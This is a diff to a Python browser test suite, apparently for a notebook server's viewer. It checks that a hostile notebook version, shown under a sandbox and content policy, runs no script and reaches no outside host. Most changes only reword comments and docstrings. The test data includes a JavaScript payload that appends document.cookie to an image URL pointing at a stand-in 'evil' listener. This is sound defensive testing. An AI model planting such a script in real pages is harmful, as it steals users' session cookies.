@@ -32,9 +32,9 @@ pytestmark = [
 
 
 class Listener:
-    """What a notebook tries to reach: it counts connections and keeps what was asked.
+    """A server that a notebook tries to reach: it records connections and requests.
 
-    It is at another host than the notebook server, in a browser's eyes.
+    For a browser, its host differs from that of the notebook server.
     """
 
     def __init__(self) -> None:
@@ -71,7 +71,7 @@ class Listener:
                     + body
                 )
             except OSError:
-                pass  # a connection made ahead, and nothing asked
+                pass  # a connection opened in advance, without a request
 
     def stop(self) -> None:
         self._socket.shutdown(socket.SHUT_RDWR)
@@ -110,7 +110,7 @@ def browser() -> Iterator[Browser]:
                 "--no-sandbox",
                 "--disable-gpu",
                 "--no-first-run",
-                # It would stop requests to this machine for a reason of its own.
+                # These checks would block requests to this machine.
                 "--disable-features=LocalNetworkAccessChecks",
             ],
         )
@@ -129,7 +129,7 @@ def context(browser: Browser, server: NotebookServer) -> BrowserContext:
     return context
 
 
-#: Each runs by itself, or reaches out, where nothing holds it.
+#: A script that reaches out in several ways, if it runs.
 SCRIPT = (
     "try {{ new Image().src = '{evil}/script-{name}?' + document.cookie }}"
     " catch (e) {{}}"
@@ -244,9 +244,9 @@ def content_url(server: NotebookServer, path: str, version_id: str) -> str:
 
 
 def watch(context: BrowserContext) -> list[str]:
-    """Keep what answers any page of the browser, and what dialogs they open.
+    """Record the responses to all pages of the browser, and the dialogs they open.
 
-    Of requests it would tell those too that the policy stops in the browser.
+    Requests are not recorded: they include those that the policy blocks.
     """
     seen: list[str] = []
     context.on("response", lambda response: seen.append(response.url))
@@ -272,7 +272,7 @@ def test_nothing_of_a_hostile_version_runs_or_reaches_out(
     shown = page.frame_locator("iframe") if place == "frame" else page.locator("html")
     shown.get_by_role("heading", name="The last heading").wait_for()
     document = next(frame for frame in page.frames if "/view/content?" in frame.url)
-    page.wait_for_timeout(1500)  # for what comes late: there is nothing to wait for
+    page.wait_for_timeout(1500)  # for late requests: there is no condition to wait for
     assert document.evaluate("window.origin") == "null"
     assert document.evaluate(READ_COOKIE) == "refused"
     for link in (".js", ".data", ".send"):
@@ -294,10 +294,10 @@ READ_COOKIE = """() => {
 }"""
 
 
-def test_without_its_policy_the_same_document_does_it_all(
+def test_without_its_policy_the_same_document_reaches_out(
     server: NotebookServer, context: BrowserContext, listener: Listener
 ) -> None:
-    # Lest the test above sees nothing because there is nothing to be seen.
+    # Shows that the test above would see it if the document reached out.
     version = store_version(server, "free.ipynb", hostile(server, listener.url))
     url = content_url(server, "free.ipynb", version)
     page = context.new_page()
@@ -315,7 +315,7 @@ def test_without_its_policy_the_same_document_does_it_all(
     wanted = [f"/{way}-{name}" for way in ways for name in ("html", "markdown")]
 
     def missing() -> list[str]:
-        page.wait_for_timeout(50)  # in which the browser's news are heard, too
+        page.wait_for_timeout(50)  # playwright handles events meanwhile
         reached = " ".join(listener.asked)
         return [part for part in wanted if part not in reached]
 
